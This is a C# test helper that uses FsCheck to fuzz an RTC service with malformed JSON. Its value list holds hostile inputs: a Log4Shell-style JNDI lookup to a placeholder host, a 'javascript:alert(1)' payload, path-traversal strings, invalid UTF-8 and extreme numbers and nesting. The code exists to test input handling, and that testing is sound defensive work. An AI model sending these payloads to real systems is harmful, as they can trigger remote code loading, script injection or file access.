using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using RtcFunctions.Tests.Storage;

namespace RtcFunctions.Tests.Hostile;

/// <summary>Spoils JSON: one value of it, or its text.</summary>
internal static class JsonMutations
{
    private const string Place = "\uE000place\uE000";

    private static readonly JsonSerializerOptions Plain = new()
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
        MaxDepth = 128,
    };

    /// <summary>What stands for a value, well-formed or not: a character for each byte.</summary>
    private static readonly string[] Values =
    [
        "null", "true", "[]", "{}", "[null]", "[{}]", "\"\"", "\" \"", "0", "-0", "-1", "0.1", "1E5", "1e400", "-1e400", "1e-400", "01",
        "9223372036854775807", "9223372036854775808", "99999999999999999999999", "4294967295", "4294967296", "2147483648", "NaN",
        "Infinity", "0x1", "+1", "'a'", "{\"a\":1,\"a\":2}", "{\"\":1}", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\uD83D\\uDE00\"",
        "\"\xff\"", "\"\xed\xa0\x80\"", "\"\xc0\xaf\"", "\"\xf5\x80\x80\x80\"", "\"\xef\xbb\xbf\"", "\"\n\"", "\"\\x\"", "\"\\u12\"", "undefined",
        "\"{{canary}}\"", "\"http://{{canary}}/\"", "\"https://{{canary}}/x?y#z\"", "\"javascript:alert(1)\"", "\"${jndi:ldap://{{canary}}/x}\"",
        "\"../../x\"", "\"a/b\"", "\"%2e%2e\"", "\"serv9\"", "\"{appId}\"", "\"publisher\"", "\"moderator\"", "\"0001-01-01T00:00:00+14:00\"",
        "\"9999-12-31T23:59:59.9999999-14:00\"", "\"2016-12-31T23:59:60Z\"", "\"2026-13-45T99:99:99Z\"", "\"2030-01-31\"", "\"T\"",
    ];

    public static readonly Gen<string> Value = Gen.OneOf(
        Gen.Elements(Values),
        HostileStrings.Any.Generator.Select(text => HostileRequest.Bytes(JsonSerializer.Serialize(text, Plain))),
        Gen.Elements(63, 64, 65, 300, 3000).Select(depth => new string('[', depth) + new string(']', depth)),
        Gen.Elements(1, 64, 65, 256, 257, 1024, 8193, 20_000).Select(length => $"\"{new string('x', length)}\""));

    /// <summary>One value of it replaced, taken out, or an unknown one put in.</summary>
    public static Gen<string> OfValue(JsonNode? json)
    {
        var places = Places(json).Prepend(null).ToArray();
        return from place in Gen.Choose(0, places.Length - 1)
               from act in Gen.Frequency((6, Gen.Constant(0)), (1, Gen.Constant(1)), (1, Gen.Constant(2)))
               from value in Value
               select Spoil(json?.DeepClone(), place, act).Replace(HostileRequest.Bytes($"\"{Place}\""), value, StringComparison.Ordinal);
    }

    public static Gen<string> OfText(string json) => Gen.OneOf(
        Gen.Elements(json + "}", "\xef\xbb\xbf" + json, $"[{json}]", $"{json}{json}", $"/* */{json}", $"{json},", $"{json}\0", $" {json}"),
        Gen.Choose(0, json.Length).Select(end => json[..end]),
        from at in Gen.Choose(0, json.Length)
        from inserted in Gen.Elements("\xff", "\xed\xa0\x80", "\0", "\\ud800", "\"", "{", "]", ",", "\\", "\x01", "{{canary}}")
        select json.Insert(at, inserted),
        Gen.Constant(Encoding.Latin1.GetString(Encoding.Unicode.GetBytes(json))),
        Gen.Constant(json.Replace("{\"", "{\"peerId\":\"x\",\"peerId\":\"y\",\"", StringComparison.Ordinal)),
        Gen.Choose(1, 200).Select(depth => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + json + new string('}', depth)));

    public static string TextOf(JsonNode? json) => json is null ? "null" : HostileRequest.Bytes(json.ToJsonString(Plain));

    /// <summary>Where an object or a list has something.</summary>
    private static IEnumerable<JsonNode?> Places(JsonNode? json) => json switch
    {
        JsonObject node => node.SelectMany(member => Places(member.Value).Prepend(member.Value)),
        JsonArray node => node.SelectMany(item => Places(item).Prepend(item)),
        _ => [],
    };

    private static string Spoil(JsonNode? json, int place, int act)
    {
        // The places of the copy are those of what it was copied from; the first is the whole.
        var chosen = place == 0 ? null : Places(json).ElementAt(place - 1);
        var parent = chosen?.Parent;
        if (act == 2 && (chosen ?? json) is JsonObject node)
        {
            node["unknown"] = Place;
        }
        else if (parent is null)
        {
            return HostileRequest.Bytes($"\"{Place}\"");
        }
        else if (act == 1 && parent is JsonObject owner)
        {
            owner.Remove(chosen!.GetPropertyName());
        }
        else
        {
            chosen!.ReplaceWith(Place);
        }

        return TextOf(json);
    }
}
